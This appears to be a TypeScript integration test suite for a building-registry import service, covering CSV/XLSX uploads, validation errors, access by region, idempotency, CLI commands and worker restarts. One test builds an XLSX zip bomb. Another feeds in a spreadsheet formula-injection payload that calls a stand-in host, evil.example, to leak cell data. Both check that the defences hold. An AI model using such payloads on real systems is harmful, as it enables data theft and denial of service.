import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import type { BuildingCreateInput } from '../../domain/buildings/schema.ts';
import { DatabaseImportJobStore } from '../../domain/imports/database-store.ts';
import type { ImportJob } from '../../domain/imports/jobs.ts';
import { ImportService } from '../../api/services/imports.ts';
import { DatabaseAuditStore } from '../../domain/stores/database-audit.ts';
import { IMPORT_COLUMNS } from '../../domain/imports/template.ts';
import { createWorker } from '../../workers/worker.ts';
import { importProgressQuery, importWorkflowId } from '../../workflows/building-import/messages.ts';
import { XLSX_TYPE, bearer, call, cellsOf, csvFile, finished, gbk, housesIn, upload } from '../support/imports.ts';
import { startStack } from '../support/stack.ts';
import { repeated, workbookParts, zipOf } from '../support/zip.ts';
import type { Stack } from '../support/stack.ts';

const run = promisify(execFile);
const ROOT = new URL('../..', import.meta.url).pathname;
const TOWN = '441802006';

let stack: Stack;
let town: string;
let work: string;
before(async () => {
  stack = await startStack();
  town = await bearer(stack.baseUrl, 'town');
  work = mkdtempSync(join(tmpdir(), 'ydym-imports-'));
});
after(async () => {
  rmSync(work, { recursive: true, force: true });
  await stack?.stop();
});

const houses = housesIn(TOWN, 6, 7);
/** Lines 2–7 good; 8–12 each wrong in one way. */
const mixed = csvFile([
  ...houses.map((h) => cellsOf(h)),
  cellsOf(houses[0]!, { externalId: 'T-BAD-1', floorsAbove: '三层' }),
  cellsOf(houses[0]!, { externalId: 'T-BAD-2', structureType: '茅草' }),
  cellsOf(houses[0]!, { externalId: 'T-BAD-3', latestJudgement: '一定', latestJudgementAt: '2024-02-30' }),
  cellsOf(housesIn('441802007', 1, 8)[0]!, { externalId: 'T-BAD-4' }),
  cellsOf(houses[1]!),
]);

async function importAs(token: string, data: Buffer, name: string, type?: string): Promise<ImportJob> {
  const created = await upload(stack.baseUrl, token, data, name, type);
  assert.equal(created.status, 201, JSON.stringify(created.body));
  return finished(stack.baseUrl, token, created.body.id);
}

describe('building import', () => {
  let first: ImportJob;

  test('good rows are imported; each bad row is reported with its line, column and reason; a village outside the town is refused', async () => {
    first = await importAs(town, mixed, '凤城街道房屋.csv');
    assert.equal(first.status, 'done');
    assert.deepEqual([first.totalRows, first.inserted, first.failedRows, first.fileName], [11, 6, 5, '凤城街道房屋.csv']);
    const problems = await call<{ data: { line: number; column: string; reason: string }[]; total: number }>(
      stack.baseUrl,
      town,
      `/api/building-imports/${first.id}/problems?perPage=50`,
    );
    const seen = problems.body.data.map((p) => [p.line, p.column]);
    assert.deepEqual(seen, [
      [8, '地上层数'],
      [9, '结构类型'],
      [10, '排查日期'],
      [11, '村（社区）代码'],
      [12, '外部编号（全国平台编码）'],
    ]);
    assert.match(problems.body.data[3]?.reason ?? '', /不在您的管辖范围内/);
    assert.match(problems.body.data[4]?.reason ?? '', /与第 3 行重复/);
    const report = await call(stack.baseUrl, town, `/api/building-imports/${first.id}/errors.csv`);
    assert.equal(report.status, 200);
    const text = report.bytes.toString('utf8');
    assert.ok(text.startsWith('\ufeff行号,列,值,原因\r\n'));
    assert.match(text, /\r\n8,地上层数,三层,应为整数\r\n/);
    const stored = await stack
      .db('buildings')
      .whereIn(
        'external_id',
        houses.map((h) => h.externalId!),
      )
      .count({ n: '*' });
    assert.equal(stored[0]?.n, 6);
    assert.equal((await stack.db('buildings').where('village_code', 'like', '441802007%').count({ n: '*' }))[0]?.n, 0);
    const audit = await stack.db('audit_log').where({ action: 'building_import.create', subject_id: first.id }).first();
    assert.equal(audit?.region_code, TOWN);
  });

  test('re-importing the same file changes nothing; a changed file updates by external id or code and records each change', async () => {
    const again = await importAs(town, mixed, 'again.csv');
    assert.deepEqual([again.inserted, again.updated, again.unchanged, again.failedRows], [0, 0, 6, 5]);
    const codeOf = async (i: number) =>
      ((await stack.db('buildings').where({ external_id: houses[i]!.externalId }).first()) as { code: string }).code;
    const changed = csvFile([
      cellsOf(houses[0]!, { floorsAbove: String(houses[0]!.floorsAbove + 1) }),
      cellsOf(houses[1]!),
      cellsOf(houses[2]!),
      cellsOf({ ...houses[3]!, code: await codeOf(3) }, { address: '凤城街道新地址 8 号' }),
      cellsOf(houses[4]!),
      cellsOf(houses[5]!),
      cellsOf({ ...houses[2]!, code: await codeOf(2) }, { externalId: '', address: '凤城街道另一地址 9 号' }),
    ]);
    const third = await importAs(town, changed, 'changed.csv');
    // Line 8 names by code the house that line 4 matched by external id: one row per house.
    assert.deepEqual([third.inserted, third.updated, third.unchanged, third.failedRows], [0, 2, 4, 1]);
    const changes = await stack
      .db('building_changes')
      .where({ source: `import:${third.id}` })
      .orderBy('id');
    assert.equal(changes.length, 2);
    assert.equal(changes[0].actor_name, '黄镇街');
    assert.deepEqual(changes[0].changes.floorsAbove, { before: houses[0]!.floorsAbove, after: houses[0]!.floorsAbove + 1 });
    assert.deepEqual(changes[1].changes.address, { before: houses[3]!.address, after: '凤城街道新地址 8 号' });
    const count = await stack.db('buildings').count({ n: '*' }).first();
    assert.equal(count?.n, 6);
  });

  test('an update without the 经营类别 column keeps the stored category: cross-field rules apply to the house as it will be', async () => {
    const [shop, home] = housesIn(TOWN, 2, 41) as [BuildingCreateInput, BuildingCreateInput];
    const created = await importAs(
      town,
      csvFile([cellsOf(shop, { use: '经营', businessCategory: '餐饮' }), cellsOf(home, { use: '自住', businessCategory: '' })]),
      'shops.csv',
    );
    assert.deepEqual([created.inserted, created.failedRows], [2, 0]);
    const codeOf = async (h: BuildingCreateInput) =>
      ((await stack.db('buildings').where({ external_id: h.externalId }).first()) as { code: string }).code;
    const kept = IMPORT_COLUMNS.flatMap((c, i) => (c.field === 'businessCategory' ? [] : [{ header: c.header, i }]));
    const pick = (cells: string[]) => kept.map((k) => cells[k.i] ?? '');
    const update = csvFile(
      [
        pick(cellsOf({ ...shop, code: await codeOf(shop) }, { use: '经营', floorsAbove: String(shop.floorsAbove + 1) })),
        pick(cellsOf({ ...home, code: await codeOf(home) }, { use: '经营' })),
      ],
      kept.map((k) => k.header),
    );
    const job = await importAs(town, update, 'no-category.csv');
    assert.deepEqual([job.updated, job.failedRows], [1, 1], JSON.stringify(job));
    const problems = await stack.db('import_problems').where({ job_id: job.id }).select('line', 'column', 'reason');
    // The home has no category stored, so as a business it would break the rule: refused, named.
    assert.deepEqual(
      problems.map((p: { line: number; column: string; reason: string }) => [p.line, p.column, p.reason]),
      [[3, '经营类别', '经营用房须填写经营类别']],
    );
    const stored = (await stack
      .db('buildings')
      .where({ code: await codeOf(shop) })
      .first()) as Record<string, unknown>;
    assert.deepEqual([stored.business_category, stored.floors_above], ['catering', shop.floorsAbove + 1]);
  });

  test('a GBK CSV, as Chinese Excel saves it, imports like a UTF-8 one', async () => {
    const gbkHouses = housesIn(TOWN, 4, 13);
    const text = csvFile(gbkHouses.map((h) => cellsOf(h)))
      .toString('utf8')
      .replace(/^\ufeff/, '');
    const job = await importAs(town, gbk(text), '房屋.csv');
    assert.deepEqual([job.status, job.inserted, job.failedRows], ['done', 4, 0]);
    const stored = (await stack.db('buildings').where({ external_id: gbkHouses[0]!.externalId }).first()) as { address: string };
    assert.equal(stored.address, gbkHouses[0]!.address);
  });

  test('jobs are listed by region: the town sees its own, an inspector may not list, an admin’s district job is hidden from the town', async () => {
    const admin = await bearer(stack.baseUrl, 'admin');
    const adminJob = await importAs(admin, csvFile([cellsOf(housesIn('441802007', 1, 9)[0]!)]), 'district.csv');
    assert.equal(adminJob.inserted, 1);
    const list = await call<{ data: ImportJob[]; total: number }>(stack.baseUrl, town, '/api/building-imports?perPage=50');
    assert.ok(list.body.data.every((j) => j.regionCode.startsWith(TOWN)) && list.body.total >= 3);
    assert.equal((await call(stack.baseUrl, town, `/api/building-imports/${adminJob.id}`)).status, 404);
    assert.equal((await call(stack.baseUrl, await bearer(stack.baseUrl, 'inspector'), '/api/building-imports')).status, 403);
  });

  test('the templates download from the API: CSV with BOM and Chinese headers, XLSX with the 填写说明 sheet', async () => {
    const csv = await call(stack.baseUrl, town, '/api/building-imports/template.csv');
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /text\/csv/);
    assert.ok(csv.bytes.toString('utf8').startsWith('\ufeff房屋编码,外部编号（全国平台编码）,村（社区）代码,地址,'));
    const xlsx = await call(stack.baseUrl, town, '/api/building-imports/template.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(xlsx.bytes).buffer);
    assert.deepEqual((book.getWorksheet('填写说明')?.getRow(2).values as unknown[]).slice(1, 4), [
      '房屋编码',
      '选填',
      IMPORT_COLUMNS[0]!.note,
    ]);
    const doc = await call<{ paths: Record<string, unknown> }>(stack.baseUrl, town, '/api/openapi.json');
    for (const path of ['/api/building-imports', '/api/building-imports/{id}', '/api/building-imports/{id}/errors.csv'])
      assert.ok(doc.body.paths[path], path);
  });

  test('an upload repeated with the same Idempotency-Key starts one import; the key with another file is refused', async () => {
    const file = csvFile([cellsOf(housesIn(TOWN, 1, 14)[0]!)]);
    const headers = { 'Content-Type': 'text/csv', 'Idempotency-Key': `import-${Date.now()}` };
    const send = (body: Buffer) => call<ImportJob>(stack.baseUrl, town, '/api/building-imports', { method: 'POST', body, headers });
    const first = await send(file);
    const again = await send(file);
    assert.equal(first.status, 201);
    assert.equal(again.body.id, first.body.id);
    assert.equal(again.headers.get('idempotent-replayed'), 'true');
    assert.equal((await send(csvFile([]))).status, 422);
    assert.equal((await finished(stack.baseUrl, town, first.body.id)).inserted, 1);
  });

  test('a wrong file type gets a clear 400 and nothing is written', async () => {
    const before = await stack.db('import_jobs').count({ n: '*' }).first();
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64)]);
    const refused = await upload(stack.baseUrl, town, png, 'photo.csv');
    assert.equal(refused.status, 400);
    assert.match((refused.body as unknown as { error: { message: string } }).error.message, /PNG 图片/);
    const json = await call(stack.baseUrl, town, '/api/building-imports', {
      method: 'POST',
      body: Buffer.from('{}'),
      headers: { 'Content-Type': 'application/json' },
    });
    assert.equal(json.status, 400);
    assert.deepEqual(await stack.db('import_jobs').count({ n: '*' }).first(), before);
    const stored = readdirSync(join(stack.config.dataDir, 'files', 'imports'));
    assert.equal(stored.length, Number(before?.n));
  });

  test('a zip bomb (shared strings inflating past 256 MB) fails the job with the limit named, imports nothing and leaves no copy', async () => {
    const header = IMPORT_COLUMNS.map(
      (c, i) => `<c r="${String.fromCharCode(65 + (i % 26))}1" t="inlineStr"><is><t>${c.header}</t></is></c>`,
    );
    const mb = Buffer.alloc(1024 * 1024, '1');
    const bomb = await zipOf(workbookParts([`<row r="1">${header.join('')}</row>`], ['<si><t>', ...repeated(mb, 300), '</t></si>']));
    const before = await stack.db('buildings').count({ n: '*' }).first();
    const job = await importAs(town, bomb, 'bomb.xlsx', XLSX_TYPE);
    assert.equal(job.status, 'failed');
    assert.match(job.error ?? '', /解压后超过 256 MB/);
    assert.deepEqual([job.inserted, job.updated], [0, 0]);
    assert.deepEqual(await stack.db('buildings').count({ n: '*' }).first(), before);
    const folder = join(stack.config.dataDir, 'files', 'imports', job.id);
    assert.deepEqual(readdirSync(folder).sort(), ['errors.csv', 'source.xlsx']);
  });

  test('the error report neutralises cells a spreadsheet would run as formulas (an address =HYPERLINK(…))', async () => {
    const [house] = housesIn(TOWN, 1, 31);
    const address = `=HYPERLINK("http://evil.example/?d="&A1,"点击查看")${'x'.repeat(200)}`;
    const job = await importAs(
      town,
      csvFile([cellsOf(house!, { externalId: 'T-INJECT-1', address }), cellsOf(house!, { externalId: 'T-INJECT-2', floorsAbove: '-1' })]),
      'inject.csv',
    );
    assert.equal(job.failedRows, 2);
    const report = (await call(stack.baseUrl, town, `/api/building-imports/${job.id}/errors.csv`)).bytes.toString('utf8');
    assert.ok(report.includes(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")x`), report);
    assert.match(report, /\r\n3,地上层数,'-1,/);
    assert.ok(!/(^|,)"?=HYPERLINK/m.test(report));
  });

  test('an unknown header fails the job with a clear message and imports nothing', async () => {
    const headers = ['村（社区）代码', '地址', '楼层', '结构类型', '房屋用途'];
    const job = await importAs(town, csvFile([['441802006001', '凤城街道某路1号', '3', '砖混', '自住']], headers), 'bad-header.csv');
    assert.equal(job.status, 'failed');
    assert.match(job.error ?? '', /无法识别的列：“楼层”.*缺少必填列：“地上层数”/);
    assert.equal(job.inserted, 0);
    const report = await call(stack.baseUrl, town, `/api/building-imports/${job.id}/errors.csv`);
    assert.match(report.bytes.toString('utf8'), /\r\n1,楼层,楼层,无法识别的列名/);
  });
});

describe('operator commands', () => {
  const cli = (args: string[]) =>
    run(process.execPath, ['--import', 'tsx', 'scripts/import-buildings.ts', ...args], {
      cwd: ROOT,
      env: {
        ...process.env,
        DATABASE_URL: stack.config.databaseUrl,
        DATA_DIR: stack.config.dataDir,
        TEMPORAL_ADDRESS: stack.temporal.address,
        TEMPORAL_TASK_QUEUE: stack.config.temporalTaskQueue,
        LOG_LEVEL: 'silent',
      },
    });

  test('the templates the CLI writes are accepted back once filled in (XLSX and CSV)', async () => {
    const xlsx = join(work, 'template.xlsx');
    const csv = join(work, 'template.csv');
    await cli(['--template', xlsx]);
    await cli(['--template', csv]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsx);
    assert.deepEqual(
      book.worksheets.map((s) => s.name),
      ['房屋信息', '填写说明'],
    );
    const filled = housesIn(TOWN, 5, 21);
    for (const h of filled) book.getWorksheet('房屋信息')!.addRow(cellsOf(h));
    const viaXlsx = await importAs(town, Buffer.from(await book.xlsx.writeBuffer()), 'filled.xlsx', XLSX_TYPE);
    assert.deepEqual([viaXlsx.status, viaXlsx.inserted, viaXlsx.failedRows], ['done', 5, 0]);
    const more = housesIn(TOWN, 3, 22);
    const text =
      readFileSync(csv, 'utf8') +
      csvFile(more.map((h) => cellsOf(h)))
        .toString('utf8')
        .split('\r\n')
        .slice(1)
        .join('\r\n');
    const viaCsv = await importAs(town, Buffer.from(text), 'filled.csv');
    assert.deepEqual([viaCsv.status, viaCsv.inserted, viaCsv.failedRows], ['done', 3, 0]);
  });

  test('import:buildings imports a file as the system, prints the summary and writes the error report beside it', async () => {
    const file = join(work, '全区.csv');
    writeFileSync(
      file,
      csvFile([...housesIn('441802107', 3, 31).map((h) => cellsOf(h)), cellsOf(housesIn('441802107', 1, 32)[0]!, { use: '仓库' })]),
    );
    const { stdout } = await cli([file]);
    assert.match(stdout, /导入完成.*共 4 行，新增 3，更新 0，未变 0，出错 1/);
    assert.ok(existsSync(`${file}.errors.csv`));
    assert.match(readFileSync(`${file}.errors.csv`, 'utf8'), /\r\n5,房屋用途,仓库,取值应为/);
  });
});

describe('durability', () => {
  test('a worker restart mid-import completes it with every row imported exactly once', async () => {
    const rows = housesIn('4418021', 4000, 11);
    const system = { actorId: null, actorName: 'cli', actorRole: null, ip: null, userAgent: null, requestId: null };
    const service = new ImportService({
      db: stack.db,
      jobs: new DatabaseImportJobStore(stack.db),
      audit: new DatabaseAuditStore(stack.db),
      files: stack.files,
      temporal: stack.temporal.client,
      taskQueue: stack.config.temporalTaskQueue,
    });
    const job = await service.submit({
      data: csvFile(rows.map((h) => cellsOf(h))),
      fileName: 'restart.csv',
      regionCode: '441802',
      actor: system,
      chunkSize: 100,
    });
    const chunks = () => stack.db('import_job_chunks').where({ job_id: job.id }).count({ n: '*' }).first() as Promise<{ n: number }>;
    while ((await chunks()).n === 0) await new Promise((r) => setTimeout(r, 20));
    stack.worker.shutdown();
    while (stack.worker.getState() !== 'STOPPED') await new Promise((r) => setTimeout(r, 50));
    const midway = await new DatabaseImportJobStore(stack.db).row(job.id);
    assert.equal(midway?.status, 'running');
    assert.ok((await chunks()).n < 40, 'the worker stopped before the import ended');

    const worker = await createWorker({
      config: stack.config,
      db: stack.db,
      files: stack.files,
      connection: stack.temporal.nativeConnection,
    });
    const running = worker.run();
    try {
      const done = await finished(stack.baseUrl, await bearer(stack.baseUrl, 'admin'), job.id, 120_000);
      assert.deepEqual([done.status, done.totalRows, done.processedRows, done.inserted, done.failedRows], ['done', 4000, 4000, 4000, 0]);
      const ids = rows.map((h) => h.externalId!);
      const stored = await stack
        .db('buildings')
        .whereIn('external_id', ids)
        .countDistinct({ n: 'external_id' })
        .count({ all: '*' })
        .first();
      assert.deepEqual([Number(stored?.n), Number(stored?.all)], [4000, 4000]);
      assert.equal((await chunks()).n, 40);
      const progress = await stack.temporal.client.workflow.getHandle(importWorkflowId(job.id)).query(importProgressQuery);
      assert.deepEqual([progress.status, progress.chunksDone, progress.inserted], ['done', 40, 4000]);
    } finally {
      worker.shutdown();
      await running;
    }
  });
});
